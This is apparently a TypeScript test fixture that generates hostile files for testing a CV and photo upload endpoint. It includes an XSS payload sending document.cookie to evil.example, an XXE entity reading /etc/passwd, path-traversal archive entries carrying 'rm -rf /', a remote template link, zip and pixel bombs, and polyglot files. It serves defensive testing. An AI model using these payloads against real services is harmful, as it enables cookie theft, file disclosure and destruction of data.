import { randomBytes } from 'node:crypto';
import { docx, pdf, photo, pngBomb, relation, relationsFile, makeZip } from '#tests/support/sample-files.ts';

/** A file that an attacker sends. */
export interface HostileFile {
  readonly name: string;
  readonly field: 'cv' | 'photo_front';
  readonly fileName: (random: () => number) => string;
  readonly type?: string;
  readonly bytes: (random: () => number) => Buffer;
  /** A picture in it is encoded again, or its changed bytes may do no harm: it may be accepted. */
  readonly mayBeWhole?: true;
  /** Number of times that the bytes are sent one after the other. */
  readonly repeat?: number;
}

const SCRIPT = '<script>fetch("https://evil.example/"+document.cookie)</script>';
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`;
const XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>';

/** With eight bytes changed: every upload differs from the others. */
function changed(bytes: Buffer, random: () => number): Buffer {
  const copy = Buffer.from(bytes);
  for (let count = 0; count < 8; count++) copy[Math.floor(random() * copy.length)] = Math.floor(random() * 256);
  return copy;
}

const unique = (random: () => number) => Buffer.from(`\n${Math.floor(random() * 1e15)}`);
const ending = (text: string) => (random: () => number) => Buffer.concat([Buffer.from(text, 'latin1'), unique(random)]);
const named = (name: string) => () => name;

/** Every kind: as a CV, as a photo, and far too large as both. */
export async function hostileFiles(): Promise<readonly HostileFile[]> {
  const jpeg = await photo('jpeg');
  const large = (['cv', 'photo_front'] as const).map((field) => ({
    name: `200 MB in ${field}`,
    field,
    fileName: named('large.pdf'),
    bytes: () => megabyte,
    repeat: 200,
  }));
  return [...hostileDocuments(jpeg), ...(await hostilePhotos(jpeg)), ...large];
}

const megabyte = randomBytes(1_000_000);

function hostileDocuments(jpeg: Buffer): readonly HostileFile[] {
  const cv = (name: string, fileName: string, bytes: HostileFile['bytes'], more: Partial<HostileFile> = {}) =>
    ({ name: `CV: ${name}`, field: 'cv', fileName: named(fileName), bytes, ...more }) satisfies HostileFile;
  const bomb = docx([{ name: 'word/media/a.xml', content: Buffer.alloc(60_000_000) }]);
  return [
    cv('web page as PDF', 'cv.pdf', ending(`<!doctype html>${SCRIPT}`), { type: 'application/pdf' }),
    cv('PDF and web page at once', 'cv.pdf', ending(`%PDF-1.7\n<html>${SCRIPT}</html>\nstartxref\n40\n%%EOF`)),
    cv('PDF and archive at once', 'cv.pdf', (random) =>
      Buffer.concat([
        pdf(),
        makeZip([{ name: 'a.exe', content: unique(random) }]),
        Buffer.from('\nstartxref\n40\n%%EOF\n'),
      ]),
    ),
    cv('SVG with a script', 'cv.svg', ending(SVG), { type: 'image/svg+xml' }),
    cv('program', 'cv.docx', ending('MZ\x90\x00This program cannot be run in DOS mode.')),
    cv('half a PDF', 'cv.pdf', (random) => pdf(`x${random()}`).subarray(0, 60)),
    cv('half a Word document', 'cv.docx', (random) => docx().subarray(0, 100 + Math.floor(random() * 300))),
    cv('Word document with changed bytes', 'cv.docx', (random) => changed(docx(), random), { mayBeWhole: true }),
    cv('archive that unpacks to 60 MB', 'cv.docx', () => bomb),
    cv('archive that claims a small size', 'cv.docx', () =>
      docx([{ name: 'word/a.xml', content: Buffer.alloc(200_000), claimedSize: 10 }]),
    ),
    cv('archive with 3,000 entries', 'cv.docx', () =>
      docx(Array.from({ length: 3000 }, (_, at) => ({ name: `word/${at}.xml`, content: '' }))),
    ),
    cv('Word document with macros', 'cv.docm', () => docx([{ name: 'word/vbaProject.bin', content: 'macro' }])),
    cv('Word document that loads a template', 'cv.docx', () =>
      docx([
        {
          name: 'word/_rels/settings.xml.rels',
          content: relationsFile(relation('x/attachedTemplate', 'https://evil.example/a.dotm', 'External')),
        },
      ]),
    ),
    cv('entry outside of the archive', '../../../etc/cron.d/cv.docx', () =>
      docx([{ name: '../../evil.sh', content: 'rm -rf /' }]),
    ),
    cv('XML with an external entity', 'cv.docx', () => docx([{ name: 'word/_rels/document.xml.rels', content: XXE }])),
    cv('0 bytes', 'cv.pdf', () => Buffer.alloc(0)),
    cv('random bytes', '\u202efdp.exe', (random) => changed(megabyte.subarray(0, 50_000), random)),
    cv('a name of 4,000 letters', `${'a'.repeat(4000)}.pdf`, ending('nonsense')),
    cv('picture', 'cv.jpg', () => jpeg, { type: 'application/pdf' }),
  ];
}

async function hostilePhotos(jpeg: Buffer): Promise<readonly HostileFile[]> {
  const front = (name: string, fileName: string, bytes: HostileFile['bytes'], more: Partial<HostileFile> = {}) =>
    ({ name: `photo: ${name}`, field: 'photo_front', fileName: named(fileName), bytes, ...more }) satisfies HostileFile;
  const png = await photo('png');
  const gif = await photo('gif');
  const avif = await photo('avif');
  return [
    front('web page', 'front.jpg', ending(`<html>${SCRIPT}`), { type: 'image/jpeg' }),
    front('SVG with a script', 'front.svg', ending(SVG), { type: 'image/svg+xml' }),
    front(
      'picture and web page at once',
      'front.html',
      (random) => Buffer.concat([jpeg, Buffer.from(SCRIPT), unique(random)]),
      { mayBeWhole: true },
    ),
    front(
      'picture and archive at once',
      'front.jpg',
      (random) => Buffer.concat([png, makeZip([{ name: 'a.js', content: unique(random) }])]),
      { mayBeWhole: true },
    ),
    front('GIF that is a script', 'front.js', ending('GIF89a=1;alert(1)//')),
    front('GIF', 'front.jpg', () => gif),
    front('AVIF', 'front.jpg', () => avif),
    front('picture of 2.5 gigapixels', 'front.png', () => pngBomb(50_000)),
    front('picture with changed bytes', 'front.jpg', (random) => changed(jpeg, random), { mayBeWhole: true }),
    front('half a picture', 'front.png', (random) => png.subarray(0, Math.floor(png.length * random()))),
    front('PDF', 'front.jpg', () => pdf()),
    front('0 bytes', 'front.jpg', () => Buffer.alloc(0)),
    front('path as name', '..\\..\\windows\\system32\\front.jpg', ending('nonsense')),
  ];
}
